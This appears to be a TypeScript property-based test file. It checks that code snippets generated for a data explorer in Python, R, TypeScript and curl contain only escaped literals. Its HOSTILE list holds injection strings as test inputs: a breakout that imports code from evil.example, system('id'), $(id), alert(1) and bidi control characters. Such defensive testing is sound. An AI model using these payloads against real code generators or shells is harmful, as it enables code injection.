// The code of the explorer: whatever a link contains, each snippet has only its own words and literals, which read back as the values.
import assert from 'node:assert/strict'
import { execFileSync } from 'node:child_process'
import { test } from 'node:test'
import { FILTERS, LANGUAGES, parseAddress } from '../../../explorer/src/address.ts'
import { seriesParameters } from '../../../explorer/src/requests.ts'
import { type Language, writeSnippets } from '../../../explorer/src/take/snippets.ts'
import { fc } from '../../seed.ts'

const ORIGIN = 'https://data.example.org'
const HOSTILE = [
  'true); import("https://evil.example/x.mjs")//',
  'TRUE); system("id")#',
  "', '); alert(1); ('",
  '"; DROP',
  '\\',
  "\\'",
  '\n',
  '\r\n',
  '\u2028',
  '\u202e',
  '\0',
  '$(id)',
  '`id`',
  "'\\''",
  '007',
  '1e9',
  '#{x}',
]
const values = fc.array(fc.oneof(fc.constantFrom(...HOSTILE, 'true', 'false'), fc.string({ unit: 'binary' })), {
  maxLength: 3,
})
const queries = fc
  .tuple(
    ...FILTERS.map((name) => fc.tuple(fc.constant(name as string), values)),
    fc.tuple(fc.constantFrom('release', 'interval', 'group', 'taken', 'code'), values),
  )
  .map(
    (entries) =>
      new URLSearchParams(entries.flatMap(([name, list]) => list.map((value): [string, string] => [name, value]))),
  )

const STRING = /"(?:[ !#-[\]-\u{10ffff}]|\\["\\bfnrt]|\\u[0-9a-f]{4})*"/u.source
const SHAPES: Record<Exclude<Language, 'curl'>, [start: string, item: string, list: [string, string], end: string]> = {
  python: [
    'from outbreaks import Client\n\nseries = Client().series(',
    'True|False',
    ['[', ']'],
    ').to_pandas()\nprint(series)',
  ],
  r: ['library(outbreakdata)\n\nseries <- ob_series(ob_client(), ', 'TRUE|FALSE', ['c(', ')'], ')\nprint(series)'],
  typescript: [
    "import { Outbreaks } from '@outbreak-data/client'\n\nconst series = await Outbreaks.fromEnv().series({ ",
    'true|false',
    ['[', ']'],
    ' })\nconsole.log(series)',
  ],
}
const escape = (text: string) => text.replace(/[()[\]]/g, '\\$&')

/** The call in one line. A value has no line break of its own: it is escaped. */
const joinLines = (snippet: string) =>
  snippet
    .replace(/\((?=\n {2})\n */, '(')
    .replace(/\(\{\n */, '({ ')
    .replaceAll(/,\n {2,}/g, ', ')
    .replace(/\n\}/, ' }')
    .replace(/\n\)/, ')')

function assertOnlyLiterals(language: Exclude<Language, 'curl'>, laidOut: string, expected: readonly string[]) {
  const snippet = joinLines(laidOut)
  const [start, item, [open, close], end] = SHAPES[language]
  assert.ok(snippet.startsWith(start) && snippet.endsWith(end), snippet)
  const literal = `(?:${STRING}|[1-9]\\d*|${item})`
  const argument = `[a-z_0-9]+(?: = |=|: )(?:${literal}|${escape(open)}${literal}(?:, ${literal})+${escape(close)})`
  assert.doesNotMatch(snippet, /[\u2028-\u202e\u2066-\u2069]/)
  const written = snippet.slice(start.length, -end.length)
  assert.match(written, new RegExp(`^${argument}(?:, ${argument})*$`, 'u'))
  const read = [...written.matchAll(new RegExp(`(?:= ?|: |\\(|\\[|, )(${literal})(?=[,)\\]]|$)`, 'gu'))].map(
    ([, found]) =>
      String(JSON.parse(/^(?:true|false)$/i.test(found ?? '') ? (found ?? '').toLowerCase() : (found ?? ''))),
  )
  assert.deepEqual(read, expected)
}

test('every snippet has only literals, for hostile values of every parameter', () => {
  fc.assert(
    fc.property(queries, (query) => {
      const { question, view } = parseAddress(new URL(`/explore?${query}`, ORIGIN))
      const parameters = seriesParameters(
        question,
        { interval: view.interval ?? 'isoweek', group: view.group, side: view.side },
        3,
      )
      const snippets = writeSnippets(ORIGIN, 'series', parameters)
      const grouped = [...Map.groupBy(parameters, ([name]) => name).values()].flat().map(([, value]) => value)
      for (const language of LANGUAGES)
        if (language !== 'curl') assertOnlyLiterals(language, snippets[language], grouped)
      assert.match(snippets.curl, /^curl -H "Authorization: Bearer \$TOKEN" '[!-&(-~]*'$/)
    }),
  )
})

test('Python reads the literals as the values', () => {
  const snippets = HOSTILE.filter((value) => value !== '\0').map((value) => {
    const { python } = writeSnippets(ORIGIN, 'series', [['composite', value]])
    return [python, value]
  })
  const program = `import ast, json, sys
for code, value in json.load(sys.stdin):
    calls = [node for node in ast.walk(ast.parse(code)) if isinstance(node, ast.keyword)]
    assert [ast.literal_eval(call.value) for call in calls] == [value], code`
  execFileSync('python3', ['-c', program], { input: JSON.stringify(snippets), timeout: 30_000 })
})
